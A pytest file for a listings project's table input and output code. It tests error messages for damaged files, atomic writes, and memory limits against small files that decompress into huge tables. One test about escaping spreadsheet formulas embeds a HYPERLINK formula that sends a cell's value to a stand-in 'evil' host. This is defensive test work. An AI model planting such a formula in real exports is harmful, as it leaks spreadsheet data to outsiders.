"""Tables are read with one sentence for damage, and written atomically, also for spreadsheets."""

import gzip
import itertools
import re
import subprocess
import sys
import threading
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from helpers.commands import vibes
from listing_vibes.errors import VibesError
from listing_vibes.market.durable import atomic_path
from listing_vibes.market.io import (
    LIMIT_VARIABLE,
    check_table_name,
    find_table,
    read_header,
    read_stored_table,
    read_table,
    spreadsheet_csv,
    to_frame,
    write_table,
)
from listing_vibes.market.market import Market


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"listing_id,price\na,caf\xe9\n", "UTF-8"), (b"", "cannot be read as a table"), (b"listing_id,price\na,1\nb,2,3\n", "cannot be read as a table"),
        (b"listing_id,price\na,1,x\nb,2,y\n", "cannot be read as a table"), (b"listing_id,price,price\na,1,2\n", "'price' twice"),
        (b'listing_id,price\na,"1\n', "cannot be read as a table"),
    ],
)  # fmt: skip
def test_an_invalid_csv_is_one_sentence(tmp_path, content, says):
    path = tmp_path / "listings.csv"
    path.write_bytes(content)
    with pytest.raises(VibesError, match=says) as caught:
        read_table(path)
    assert str(path) in str(caught.value) and "\n" not in str(caught.value)


@pytest.mark.parametrize("damage", [slice(8), slice(40), slice(200), "inside"])
def test_a_damaged_gzip_or_parquet_is_one_sentence(tmp_path, damage):
    rows = "".join(f"listing {row},{row * 7919 % 1000}\n" for row in range(2000))
    content = bytearray(gzip.compress(("listing_id,price\n" + rows).encode()))
    content[12:30] = b"\xff" * 18 if damage == "inside" else content[12:30]
    (tmp_path / "listings.csv.gz").write_bytes(content if damage == "inside" else content[damage])
    with pytest.raises(VibesError, match=r"listings\.csv\.gz"):
        read_table(tmp_path / "listings.csv.gz")
    pd.DataFrame({"listing_id": ["a", "b"]}).to_parquet(path := tmp_path / "listings.parquet")
    path.write_bytes(path.read_bytes()[:-20])
    with pytest.raises(VibesError, match=r"listings\.parquet"):
        read_table(path)


@pytest.mark.parametrize("mark", [",", ";", "\t"])
def test_a_csv_is_read_as_text_with_any_separator_and_byte_order_mark(tmp_path, mark):
    path = tmp_path / "listings.csv"
    rows = [["listing_id", "price", "town"], ["007", '"1,5"', '"Ulm; Bonn"'], ["NA", "", '"a\tb"']]
    path.write_text("\ufeff" + "".join(mark.join(row) + "\n" for row in rows), encoding="utf-8")
    table = read_table(path)
    assert table["listing_id"].tolist() == ["007", "NA"] and table["town"].tolist() == ["Ulm; Bonn", "a\tb"]
    assert table["price"].isna().tolist() == [False, True] and read_header(path).columns.tolist() == rows[0]


def test_columns_of_a_parquet_are_read_as_their_values_and_large_integers_exactly(tmp_path):
    counts = pa.array([[("bath", 1)], [("bed", 2), ("bath", 1)]], pa.map_(pa.string(), pa.int64()))
    towns, path = pa.array(["Ulm", "Bonn"]).dictionary_encode(), tmp_path / "listings.parquet"
    pq.write_table(pa.table({"town": towns, "counts": counts}), path)
    table = read_table(path)
    assert table["town"].tolist() == ["Ulm", "Bonn"] and pd.api.types.is_string_dtype(table["town"].dtype)
    assert len(table["counts"][1]) == 2 and read_header(path).columns.tolist() == ["town", "counts"]
    for kind, large in ((pa.int64(), 10**16 + 1), (pa.uint64(), 10**16 + 1), (pa.int64(), -(10**16) - 1)):
        frame = to_frame(
            pa.table({"large": pa.array([large, None], kind), "small": pa.array([7, None], kind)})
        )
        assert int(frame["large"][0]) == large and frame["large"].isna().tolist() == [False, True]
        assert frame["small"].dtype == "float64"  # which is faster, and exact for small ones


def test_a_table_is_written_in_the_format_of_its_name(tmp_path):
    frame = pd.DataFrame({"user_id": ["a", "b"], "rank": [1, 2]})
    for name in ("q.csv", "q.parquet"):
        check_table_name(tmp_path / name, "--queries")
        write_table(tmp_path / name, frame)
        assert read_table(tmp_path / name).astype(str).equals(frame.astype(str))
        assert len(read_stored_table(tmp_path / name, ["rank"], "evaluate the run again")) == 2
        with pytest.raises(VibesError, match="lacks the column at; evaluate the run again"):
            read_stored_table(tmp_path / name, ["user_id", "at"], "evaluate the run again")
    assert (tmp_path / "q.csv").read_text(encoding="utf-8-sig") == "user_id,rank\na,1\nb,2\n"
    assert read_stored_table(tmp_path / "none.csv", ["rank"], "evaluate the run again") is None
    assert "Option --out is 'q.txt'" in vibes("demand", "nowhere", "--out", "q.txt", check=2).stderr


@pytest.mark.parametrize("kind", ["str", "object", "category", pd.ArrowDtype(pa.string())], ids=str)
def test_no_text_is_a_formula_in_a_file_for_spreadsheets(kind, tmp_path):
    formula = '=HYPERLINK("http://evil/?"&A1,"Click")'
    frame = pd.DataFrame(
        {
            "title": pd.Series([formula, "+1", "-2", "@a", "\tb", "a-b", None, "Größe"], dtype=kind),
            "has": [["Wifi", "Sauna"], [], None, ["=1", "2"], ["-"], ["a"], None, ["b"]],
            "change": [-1.5, 2.0, np.nan, 0.0, 1.0, 1.0, 1.0, 1.0],
            "=name": range(8),
        }
    )
    write_table(tmp_path / "queries.csv", frame)
    written = (tmp_path / "queries.csv").read_bytes()
    assert written == spreadsheet_csv(frame) and written.startswith(b"\xef\xbb\xbf")
    assert written.decode("utf-8-sig").split("\n") == [
        "title,has,change,'=name", '"\'=HYPERLINK(""http://evil/?""&A1,""Click"")",Wifi; Sauna,-1.5,0', "'+1,,2.0,1", "'-2,,,2",
        "'@a,'=1; 2,0.0,3", "'\tb,'-,1.0,4", "a-b,a,1.0,5", ",,1.0,6", "Größe,b,1.0,7", "",
    ]  # fmt: skip
    assert frame["title"][0] == formula  # the table itself does not change


def test_two_files_for_one_table_are_an_error_that_names_both(tiny_market, tmp_path):
    folder = tiny_market()
    assert find_table(folder, "listings") == folder / "listings.parquet" and find_table(folder, "x") is None
    pd.read_parquet(folder / "listings.parquet").to_csv(folder / "listings.csv", index=False)
    with pytest.raises(VibesError, match=re.escape("listings.parquet and listings.csv")):
        Market.open(folder)
    for words in (["check", folder], ["train", folder, tmp_path / "run"]):
        assert "listings.parquet and listings.csv" in vibes(*words, check=2).stderr
    assert not (tmp_path / "run").exists()


def test_a_failed_write_or_a_full_disk_leaves_the_old_file_and_no_other(tmp_path):
    target = tmp_path / "listings.parquet"
    target.write_text("old")
    with pytest.raises(RuntimeError), atomic_path(target) as temporary:
        temporary.write_text("half of the n")
        raise RuntimeError("killed")
    with pytest.raises(VibesError, match=r"refused .*listings\.parquet"), atomic_path(target / "market.toml"):
        pass
    if Path("/dev/full").exists():
        with (
            pytest.raises(VibesError, match=r"disk is full .*listings\.parquet"),
            atomic_path(target) as path,
        ):
            path.symlink_to("/dev/full")  # the device on which every write fails with ENOSPC
            pd.DataFrame({"a": range(10_000)}).to_parquet(path)
    assert target.read_text() == "old" and list(tmp_path.iterdir()) == [target]


@pytest.mark.slow
def test_a_parquet_that_is_replaced_during_reading_is_the_old_or_the_new_one(tmp_path):
    path, sizes, done, contents = tmp_path / "events.parquet", (300, 40_000), threading.Event(), []
    for rows in sizes:
        pd.DataFrame({"user_id": [f"user {row * 7919 % rows}" for row in range(rows)]}).to_parquet(path)
        contents.append(path.read_bytes())

    def replace() -> None:
        for content in itertools.cycle(contents):
            with atomic_path(path) as temporary:
                temporary.write_bytes(content)
            if done.is_set():
                return

    thread = threading.Thread(target=replace)
    thread.start()
    try:
        seen = {len(read_table(path)) for _ in range(300)}
    finally:
        done.set()
        thread.join()
    assert seen == set(sizes)


OPENS = r"""
import re, resource, sys
from pathlib import Path
from listing_vibes.errors import VibesError
from listing_vibes.market.market import Market
resource.setrlimit(resource.RLIMIT_AS, (4 * 2**30, 4 * 2**30))
try:
    Market.open(Path(sys.argv[1]))
except VibesError as error:
    print(error)
# The peak of this program alone: that of `getrusage` begins with its parent's.
print(int(re.search(r"VmHWM:\s+(\d+)", Path("/proc/self/status").read_text())[1]) // 1024)
"""


def write_parquet(folder: Path, millions: int) -> Path:
    """Write a table of few bytes and many rows."""
    part = pa.table(
        {name: pa.array(np.zeros(1_000_000, np.int32)) for name in ("listing_id", "price", "beds")}
    )
    with pq.ParquetWriter(folder / "listings.parquet", part.schema) as writer:
        for _ in range(millions):
            writer.write_table(part)
    return folder / "listings.parquet"


def write_repeated(folder: Path, encoding: str = "PLAIN") -> Path:
    """Write a table whose cells all hold one long text."""
    ids, long = [str(row) for row in range(1000)], "x" * 200_000
    tables = {
        "PLAIN": pa.table({"listing_id": ids, "description": [long] * 1000}),
        "LIST": pa.table({"listing_id": ids, "tags": [[long]] * 1000}),
    }
    table = tables.get(encoding, tables["PLAIN"])
    options = {"use_dictionary": False, "column_encoding": encoding} if encoding == "DELTA_BYTE_ARRAY" else {}
    pq.write_table(table, folder / "listings.parquet", **options)
    return folder / "listings.parquet"


def write_gzip(folder: Path, millions: int) -> Path:
    with gzip.open(folder / "listings.csv.gz", "wb", compresslevel=1) as stream:
        stream.write(b"listing_id,price\n")
        for _ in range(millions):
            stream.write(b"1,2\n" * 1_000_000)
    return folder / "listings.csv.gz"


@pytest.mark.slow
@pytest.mark.skipif(sys.platform != "linux", reason="/proc tells the peak")
@pytest.mark.parametrize("write", [write_parquet, write_gzip])
def test_a_small_file_of_a_huge_table_is_refused_in_little_memory(tmp_path, write):
    assert write(tmp_path, 100).stat().st_size < 6e6
    done = subprocess.run(
        [sys.executable, "-c", OPENS, str(tmp_path)], capture_output=True, text=True, check=True
    )
    sentence, peak = done.stdout.splitlines()
    assert "is too large for one table" in sentence and LIMIT_VARIABLE in sentence
    assert int(peak) < 500  # MB


@pytest.mark.parametrize("encoding", ["PLAIN", "LIST", "DELTA_BYTE_ARRAY"])
def test_a_text_that_recurs_counts_as_often_as_it_does(tmp_path, monkeypatch, encoding):
    path = write_repeated(tmp_path, encoding)
    assert path.stat().st_size < 1e5
    monkeypatch.setenv(LIMIT_VARIABLE, "0.25")
    assert len(read_table(path)) == 1000
    monkeypatch.setenv(LIMIT_VARIABLE, "0.15")
    with pytest.raises(VibesError, match="is too large for one table"):
        read_table(path)


@pytest.mark.parametrize("write", [write_parquet, write_gzip])
def test_the_variable_says_how_much_a_table_may_take(tmp_path, monkeypatch, write):
    path = write(tmp_path, 1)
    assert len(read_table(path)) == 1_000_000
    for value, says in (("0.05", "is too large for one table"), ("much", "is 'much'; give gigabytes")):
        monkeypatch.setenv(LIMIT_VARIABLE, value)
        with pytest.raises(VibesError, match=says):
            read_table(path)
